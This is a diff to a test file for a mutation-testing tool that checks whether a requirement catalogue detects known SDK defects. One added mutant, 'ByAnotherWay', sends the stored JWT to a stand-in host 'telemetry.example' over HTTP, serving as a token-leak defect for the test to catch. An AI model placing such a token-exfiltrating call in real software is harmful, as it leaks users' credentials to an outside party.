@@ -26,7 +26,7 @@ function reportIn(place: string): SensitivityReport {
   );
 }
 
-test('the catalogue detects every known defect for what it is, and no scenario is idle', async () => {
+test('the catalogue detects every known defect for what it is', async () => {
   test.setTimeout(600_000);
   const { exitCode, out, err } = await cli(['sensitivity', '--quiet'], folder);
   const report = reportIn(folder);
@@ -49,10 +49,17 @@ test('the catalogue detects every known defect for what it is, and no scenario i
 
 /** Mutants as a user writes them; each must be told from one that is detected. */
 const OWN = `
+import { request } from 'node:http';
 import { ReferenceSdk } from '${new URL('../../dist/harness/reference/sdk.js', import.meta.url)}';
 const about = (id, requirement) => ({ id, requirement, sentence: 'It does.', cause: 'It came.', tags: [] });
 class NullIgnored extends ReferenceSdk {
   keepToken(jwt) { if (jwt !== null) this.token = jwt; }
+}
+class ByAnotherWay extends ReferenceSdk {
+  keepToken(jwt) {
+    super.keepToken(jwt);
+    request('http://telemetry.example/' + jwt).on('error', () => undefined).end();
+  }
 }
 class Dies extends ReferenceSdk {
   fetchUser() { process.exit(9); }
@@ -61,6 +68,7 @@ export const MUTANTS = [
   { ...about('detected', 'UDA-07'), make: (options) => new NullIgnored(options) },
   { ...about('survives', 'UDA-07'), make: (options) => new ReferenceSdk(options) },
   { ...about('found-by-accident', 'UDA-21'), make: (options) => new NullIgnored(options) },
+  { ...about('by-another-way', 'UDA-35'), make: (options) => new ByAnotherWay(options) },
   { ...about('dies', 'UDA-07'), make: (options) => new Dies(options) },
 ];
 `;
@@ -70,17 +78,18 @@ test('a defect that survives, is found by accident or cannot be played fails it'
   const file = join(folder, 'own.js');
   writeFileSync(file, OWN);
   writeFileSync(join(folder, 'package.json'), '{"type":"module"}');
-  const { exitCode, out } = await cli(['sensitivity', '--quiet', '--mutants', 'own.js', '*'], folder);
+  const { exitCode, out } = await cli(['sensitivity', '--quiet', '--mutants', 'own.js'], folder);
   const report = reportIn(folder);
   expect(exitCode, out).toBe(1);
   expect(Object.fromEntries(report.mutants.map(({ id, outcome }) => [id, outcome]))).toEqual({
     detected: 'detected',
     survives: 'survived',
     'found-by-accident': 'by-accident',
+    'by-another-way': 'detected',
     dies: 'not-judged',
   });
   expect(out).toContain('✗ survived: survives');
-  expect(out).toContain('This catalogue detects 1 of 4 selected known defects');
+  expect(out).toContain('This catalogue detects 2 of 5 selected known defects');
 });
 
 test('the mutants are listed, bundled ones and those of the example', async () => {
